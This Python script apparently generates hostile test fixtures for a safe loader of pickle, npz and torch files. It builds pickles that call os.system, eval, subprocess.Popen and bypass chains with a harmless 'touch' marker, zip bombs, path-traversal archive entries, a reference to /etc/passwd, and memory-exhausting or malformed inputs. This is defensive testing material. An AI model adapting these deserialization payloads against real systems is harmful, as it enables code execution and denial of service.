"""Writes the hostile files of this folder. Run it here: python3 make.py

Each file tries to do harm. A pickle that gets to run code would create `physique_was_here` in the
working directory. Nothing here is ever unpickled by Python.
"""
import io
import os
import pickle
import struct
import zipfile
import zlib

TRACE = "physique_was_here"


class Calls:
    """A value whose pickle calls a function."""

    def __init__(self, function, *arguments):
        self.reduced = (function, arguments)

    def __reduce__(self):
        return self.reduced


def write(name, data):
    with open(name, "wb") as file:
        file.write(data)


def call(module, name, argument):
    """Protocol 0: module.name(argument)."""
    return b"c%s\n%s\n(S%sTR.".replace(b"T", b"\nt") % (module, name, repr(argument).encode())


touch = "touch " + TRACE
write("os_system.pkl", call(b"os", b"system", touch))
write("posix_system.pkl", call(b"posix", b"system", touch))
write("nt_system.pkl", call(b"nt", b"system", touch))
write("builtins_eval.pkl", call(b"builtins", b"eval", "open('%s','w')" % TRACE))
write("builtins_exec.pkl", call(b"__builtin__", b"execfile", TRACE))
write("builtins_open.pkl", b"cbuiltins\nopen\n(S'" + TRACE.encode() + b"'\nS'w'\ntR.")
write("subprocess.pkl", pickle.dumps(Calls(__import__("subprocess").Popen, ["touch", TRACE])))
write("protocol_4.pkl", pickle.dumps({"v_template": Calls(os.system, touch)}, 4))
write("getattr_chain.pkl", b"cbuiltins\ngetattr\n(cos\nsystem\nS'__call__'\ntR(S'%s'\ntR." % touch.encode())
write("dotted_name.pkl", b"\x80\x04\x8c\x05numpy\x8c\x0ecore.os.system\x93(\x8c\x04true\x85R.")
write("numpy_load.pkl", call(b"numpy", b"load", TRACE))
write("numpy_runstring.pkl", call(b"numpy.testing._private.utils", b"runstring", TRACE))
write("torch_load.pkl", call(b"torch", b"load", TRACE))
write("instance.pkl", b"(S'%s'\nios\nsystem\n." % touch.encode())
write("object.pkl", b"(cos\nsystem\nS'%s'\no." % touch.encode())
write("new_object.pkl", b"\x80\x02csubprocess\nPopen\n(U\x05touch\x85\x81.")
write("extension.pkl", b"\x80\x02\x82\x01).")
write("persistent_text.pkl", b"Pfile:///etc/passwd\n.")
write("call_of_text.pkl", b"S'os.system'\n(S'true'\ntR.")
write("build_setstate.pkl", b"\x80\x02cchumpy.ch\nCh\n)\x81}U\x0c__setstate__cos\nsystem\nsbU\x04trueb.")

write("huge_text.pkl", b"\x80\x03X\xff\xff\xff\xffabc.")
write("huge_text_8.pkl", b"\x80\x04\x8d" + b"\xff" * 8 + b"abc.")
write("huge_bytes.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"abc.")
write("huge_long.pkl", b"\x80\x02\x8b\xff\xff\xff\x7f\x01.")
write("negative_long.pkl", b"\x80\x02\x8b\xff\xff\xff\xff\x01.")
write("negative_bytes.pkl", b"T\xff\xff\xff\xffabc.")
write("huge_frame.pkl", b"\x80\x04\x95" + b"\xff" * 8 + b"N.")
write("huge_memo.pkl", b"\x80\x02Nr\xff\xff\xff\xff.")
write("huge_memo_text.pkl", b"Np99999999999999999999\n.")
write("digits.pkl", b"L" + b"9" * 100000 + b"L\n.")

laughs = b"\x80\x02]q\x00"
for level in range(1, 200):
    laughs += b"](" + (b"h" + bytes([level - 1])) * 10 + b"eq" + bytes([level])
write("billion_laughs.pkl", laughs + b".")
write("shared_text.pkl", b"\x80\x02X\xa0\x86\x01\x00" + b"a" * 100000 + b"q\x00"
      + (b"c_codecs\nencode\nh\x00U\x06latin1\x86R0") * 5000 + b".")
write("deep_lists.pkl", b"(" * 50000 + b"l" * 50000 + b".")
write("deep_tuples.pkl", b")" + b"\x85" * 50000 + b".")
write("itself.pkl", b"\x80\x02]q\x00h\x00a.")
write("dict_of_itself.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00xh\x00s.")
write("chumpy_of_itself.pkl", b"\x80\x02}q\x00X\x0a\x00\x00\x00v_templatecchumpy.ch\nCh\n)\x81q\x01"
      b"}X\x01\x00\x00\x00xh\x01sbs.")
write("duplicates.pkl", b"N" + b"2" * 50000 + b".")

write("underflow_pop.pkl", b"0.")
write("underflow_reduce.pkl", b"\x80\x02R.")
write("underflow_build.pkl", b"\x80\x02Nb.")
write("underflow_mark.pkl", b"\x80\x02te.")
write("through_mark.pkl", b"\x80\x02N(0a.")
write("odd_items.pkl", b"\x80\x02}(Nu.")
write("empty_stop.pkl", b"\x80\x02.")
write("no_stop.pkl", b"\x80\x02N")
write("unknown_opcode.pkl", b"\x80\x02\xee.")
write("protocol_9.pkl", b"\x80\x09N.")

ndarray = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tU\x01btR"
dtype = b"cnumpy\ndtype\n(U\x02f8K\x00K\x01tR"


def array(shape, data):
    return b"\x80\x02" + ndarray + b"(K\x01" + shape + dtype + b"\x89" + data + b"tb."


write("array_overflow.pkl", array(b"\x8a\x09" + b"\xff" * 8 + b"\x00\x8a\x02\xff\x7f\x86", b"U\x00"))
write("array_overflow_64.pkl", array(b"(" + b"\x8a\x08" + b"\x00" * 4 + b"\x01\x00\x00\x00"
                                     + b"\x8a\x05\x00\x00\x00\x00\x01t", b"U\x00"))
write("array_negative.pkl", array(b"J\xff\xff\xff\xff\x85", b"U\x00"))
write("array_short.pkl", array(b"K\x64\x85", b"U\x08abcdefgh"))
write("array_many_dimensions.pkl", array(b"(" + b"K\x01" * 100 + b"t", b"U\x08abcdefgh"))
write("array_of_nothing.pkl", array(b"J\x00\x00\x00\x7fK\x00\x86", b"U\x00"))
write("array_never_filled.pkl", b"\x80\x02" + ndarray + b".")
write("tensor_outside.pkl", b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((U\x07storagectorch\n"
      b"FloatStorage\nU\x010U\x03cpuK\x04tQK\x00J\x00\x00\x00\x7f\x85K\x01\x85\x89NtR.")


def npz(name, entries, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for entry, data in entries:
            info = zipfile.ZipInfo(entry, (1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    write(name, out.getvalue())
    return out.getvalue()


def npy(shape, descr="<f8", data=b""):
    text = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }\n" % (descr, shape)
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode() + data


bomb = npz("bomb.npz", [("v_template.npy", npy("(8388608,)", data=b"\0" * (64 << 20)))])
at = bomb.index(b"PK\x01\x02")
lying = bytearray(bomb)
lying[22:26] = struct.pack("<I", 100)
lying[at + 24:at + 28] = struct.pack("<I", 100)
write("bomb_that_lies.npz", bytes(lying))
npz("overflow.npz", [("v_template.npy", npy("(4294967296, 4294967296, 16)"))])
npz("huge_shape.npz", [("v_template.npy", npy("(1152921504606846975, 3)"))])
npz("huge_digits.npz", [("v_template.npy", npy("(%s, 3)" % ("9" * 5000)))])
npz("objects.npz", [("v_template.npy", npy("(1,)", "|O", call(b"os", b"system", touch)))])
npz("torch.pt", [("archive/data.pkl", call(b"os", b"system", touch))])
npz("many_entries.npz", [("%d.npy" % i, b"") for i in range(2000)], zipfile.ZIP_STORED)
npz("path.npz", [("../../physique_was_here.npy", npy("(1,)", data=b"\0" * 8))])
write("truncated.npz", bomb[:200])
write("directory_gone.npz", bomb[:at])
write("objects.npy", npy("()", "|O", call(b"os", b"system", touch)))
write("header.npy", b"\x93NUMPY\x02\x00\xff\xff\xff\xff")
